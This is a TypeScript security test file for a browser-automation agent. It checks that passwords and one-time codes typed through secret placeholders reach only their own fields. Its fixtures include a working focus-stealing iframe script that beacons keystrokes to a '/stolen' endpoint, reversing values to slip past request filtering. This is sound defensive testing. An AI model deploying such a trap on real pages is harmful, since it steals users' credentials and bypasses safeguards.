import type { BrowserSession, PageView } from '@runwright/contract';
import { beforeAll, expect, it } from 'vitest';
import { twoSites } from './two-sites.test-helpers.ts';

const secret = 'correct horse battery staple';
const code = '482913';
const { signal } = new AbortController();
/** What each field of another site held, in order. */
const stolen: string[] = [];
/** What fields of the own site held when a page reported it. */
const reported: string[] = [];

/** A field that takes the focus again and again, and sends all that it gets. */
// The other way round, because a request with the value itself would be refused on its way.
const trap = `<input id="trap"><script>
  trap.oninput = () => navigator.sendBeacon('/stolen', [...trap.value].reverse().join(''));
  trap.onkeydown = (event) => navigator.sendBeacon('/stolen', event.key);
  setInterval(() => trap.focus(), 5);
</script>`;
const password = `<input type="password" aria-label="Password">`;
const boxes = Array.from(code, (_, at) => `<input maxlength="1" size="1" aria-label="Digit ${at + 1}">`);
/** Boxes as many sites have them: each one passes the focus on to the next. */
const passOn = `<script>
  const all = [...document.querySelectorAll('input')];
  all.forEach((box, at) => { box.oninput = () => { if (box.value) all[at + 1]?.focus(); }; });
</script>`;

const sites = twoSites({
  secrets: { '{{secret.shop.password.1}}': secret, '{{secret.shop.code.1}}': code },
  answer({ request, body }) {
    if (request.url === '/stolen') stolen.push(body);
    if (request.url === '/reported') reported.push(body);
    return false;
  },
  pages: ({ foreign }) => ({
    '/trap': trap,
    '/ad': `${password}<iframe src="${foreign}/trap"></iframe>`,
    '/sandboxed': `${password}<iframe sandbox="allow-scripts" src="${foreign}/trap"></iframe>`,
    '/srcdoc': `${password}<iframe sandbox="allow-scripts" srcdoc="${trap.replaceAll('"', '&quot;')}"></iframe>`,
    '/codes': `<form>${boxes.join('')}</form>${passOn}<iframe src="${foreign}/trap"></iframe>`,
    '/single-code': `<input aria-label="Code" inputmode="numeric"><iframe src="${foreign}/trap"></iframe>`,
    '/leaving': `<iframe src="/leaving-frame"></iframe>`,
    '/leaving-frame': `${password}<script>
      const field = document.querySelector('input');
      field.oninput = () => { navigator.sendBeacon('/reported', field.value); };
      field.onfocus = () => { location.href = '${foreign}/trap'; };
    </script>`,
    '/rejecting': `${password}<iframe src="${foreign}/trap"></iframe><script>
      const field = document.querySelector('input');
      field.oninput = () => { field.value = ''; };
    </script>`,
  }),
});
let session: BrowserSession;
beforeAll(async () => {
  session = await sites.open();
});

async function open(path: string): Promise<PageView> {
  stolen.length = 0;
  reported.length = 0;
  await session.page.act({ action_type: 'goto_url', url: sites.own + path }, { epoch: 0, signal });
  return session.page.read({ mode: 'action', signal });
}
const idNamed = (view: PageView, name: string): string =>
  view.elements().find((element) => element.name === name)?.id ?? '';

async function typePassword(path: string) {
  const view = await open(path);
  const id = idNamed(view, 'Password');
  const action = { action_type: 'input_text', id, text: '{{secret.shop.password.1}}' } as const;
  return session.page.act(action, { epoch: view.epoch, signal });
}

const nothingStolen = (): void => expect(stolen.join('')).toBe('');

const goesToItsField = async (path: string): Promise<void> => {
  expect(await typePassword(path)).toMatchObject({ status: 'ok', readBack: { holds: true, attempts: 1 } });
  nothingStolen();
};
it.each(['/ad'])(
  'a password goes to its field while a frame takes the focus: %s',
  { tags: ['security'] },
  goesToItsField,
);
it.each(['/sandboxed', '/srcdoc'])(
  'a password goes to its field while a frame takes the focus: %s',
  { tags: ['security', 'extended'] },
  goesToItsField,
);

it('a password that its field rejects is not typed into the frame that has the focus', {
  tags: ['security', 'extended'],
}, async () => {
  expect(await typePassword('/rejecting')).toMatchObject({ status: 'failed', code: 'value_mismatch' });
  nothingStolen();
});

it('a document that leaves on focus gets the whole password before, or none of it and the result says so', {
  tags: ['security'],
}, async () => {
  const { status } = await typePassword('/leaving');
  nothingStolen();
  const isWhole = () => reported.length === 1 && reported[0] === secret;
  if (status === 'ok') await expect.poll(isWhole).toBe(true);
  else expect(reported).toEqual([]);
});

const codeGoesToItsFields = async (path: string, first: string): Promise<void> => {
  const view = await open(path);
  const action = {
    action_type: 'verification_code',
    id: idNamed(view, first),
    code: '{{secret.shop.code.1}}',
  } as const;
  expect(await session.page.act(action, { epoch: view.epoch, signal })).toMatchObject({
    status: 'ok',
    readBack: { holds: true },
  });
  nothingStolen();
};
it.each([['/codes', 'Digit 1']])(
  'a code goes to its fields while a frame takes the focus: %s',
  { tags: ['security'] },
  codeGoesToItsFields,
);
it.each([['/single-code', 'Code']])(
  'a code goes to its fields while a frame takes the focus: %s',
  { tags: ['security', 'extended'] },
  codeGoesToItsFields,
);
